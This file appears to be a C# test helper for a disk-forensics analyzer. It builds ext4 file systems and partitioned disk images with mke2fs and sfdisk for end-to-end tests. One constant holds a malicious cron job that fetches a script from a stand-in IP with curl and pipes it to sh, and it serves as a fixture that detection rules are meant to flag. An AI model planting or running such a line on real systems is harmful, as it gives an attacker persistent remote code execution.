using System.Diagnostics;
using System.Globalization;
using System.Text;
using Xunit;

namespace Forensics.Analyzer.Tests.EndToEnd;

/// <summary>Makes file systems and partitioned disks in a folder of its own with the system's tools.</summary>
internal sealed class Machine : IDisposable
{
    private const int Mib = 1 << 20;

    /// <summary>A job that every rule set knows.</summary>
    public const string EvilJob = "* * * * * curl -fsSL http://203.0.113.66/x.sh | sh\n";

    public string Folder { get; } = Directory.CreateTempSubdirectory("deadbox-machine-").FullName;

    public void Dispose() => Directory.Delete(Folder, recursive: true);

    public string At(string name) => Path.Combine(Folder, name);

    /// <summary>The files every system has, its name and its table of mounts.</summary>
    public static (string, string)[] System(string name, string fstab) =>
    [
        ("etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"), ("etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n"), ("etc/hostname", name + "\n"), ("etc/fstab", fstab),
        ("bin/sh", "#!/bin/false\n"), ("var/.keep", ""), ("home/.keep", ""),
    ];

    /// <summary>An ext4 file system with files; a text that begins with <c>-> </c> makes a symbolic link.</summary>
    public string Ext4(string name, string uuid, string? label, IEnumerable<(string Path, string Text)> files, int mib = 8)
    {
        string tree = Directory.CreateDirectory(At(name + ".tree")).FullName;
        foreach ((string path, string text) in files)
        {
            string full = Path.Combine(tree, path);
            Directory.CreateDirectory(Path.GetDirectoryName(full)!);
            if (text.StartsWith("-> ", StringComparison.Ordinal))
            {
                File.CreateSymbolicLink(full, text[3..]);
            }
            else
            {
                File.WriteAllText(full, text);
            }
        }
        string[] labelled = label is null ? [] : ["-L", label];
        Run("mke2fs", ["-q", "-F", "-t", "ext4", "-b", "1024", "-U", uuid, .. labelled, "-E", "root_owner=0:0", "-d", tree, At(name), mib.ToString(CultureInfo.InvariantCulture) + "M"]);
        Directory.Delete(tree, recursive: true);
        return At(name);
    }

    /// <summary>A disk of partitions one after the other from 1 MiB; <c>extra</c> is added to the line of sfdisk (<c>uuid=..., name=...</c>).</summary>
    public string Disk(string name, string label, params (string File, string Extra)[] partitions)
    {
        var script = new StringBuilder(label + "\n");
        long offset = Mib;
        using (FileStream disk = File.Create(At(name)))
        {
            foreach ((string file, string extra) in partitions)
            {
                byte[] content = File.ReadAllBytes(file);
                script.Append(CultureInfo.InvariantCulture, $"start={offset / 512}, size={content.Length / 512}").Append(extra.Length == 0 ? "" : ", " + extra).Append('\n');
                disk.Position = offset;
                disk.Write(content);
                offset += content.Length;
            }
            disk.SetLength(offset + Mib);
        }
        Run("sfdisk", ["-q", At(name)], script.ToString());
        return At(name);
    }

    /// <summary>Takes a mount of ntfs-3g down; whoever looks over all mounts just then keeps it busy for a moment.</summary>
    public static void Unmount(string folder) =>
        Run("bash", ["-c", "for i in {1..40}; do fusermount -u \"$0\" 2>/dev/null && exit; sleep .25; done; exec fusermount -u \"$0\"", folder]);

    public static string Run(string program, IReadOnlyList<string> arguments, string? input = null, string? folder = null, params (string Name, string Value)[] environment)
    {
        var start = new ProcessStartInfo("bash") { RedirectStandardInput = true, RedirectStandardOutput = true, RedirectStandardError = true, WorkingDirectory = folder ?? "" };
        foreach (string argument in (string[])["-c", "PATH=$PATH:/usr/sbin:/sbin exec \"$@\"", "bash", program, .. arguments])
        {
            start.ArgumentList.Add(argument);
        }
        foreach ((string name, string value) in environment)
        {
            start.Environment[name] = value;
        }
        using Process process = Process.Start(start)!;
        process.StandardInput.Write(input);
        process.StandardInput.Close();
        Task<string> errors = process.StandardError.ReadToEndAsync();
        string output = process.StandardOutput.ReadToEnd();
        process.WaitForExit();
        Assert.True(process.ExitCode == 0, program + ": " + errors.GetAwaiter().GetResult());
        return output;
    }
}
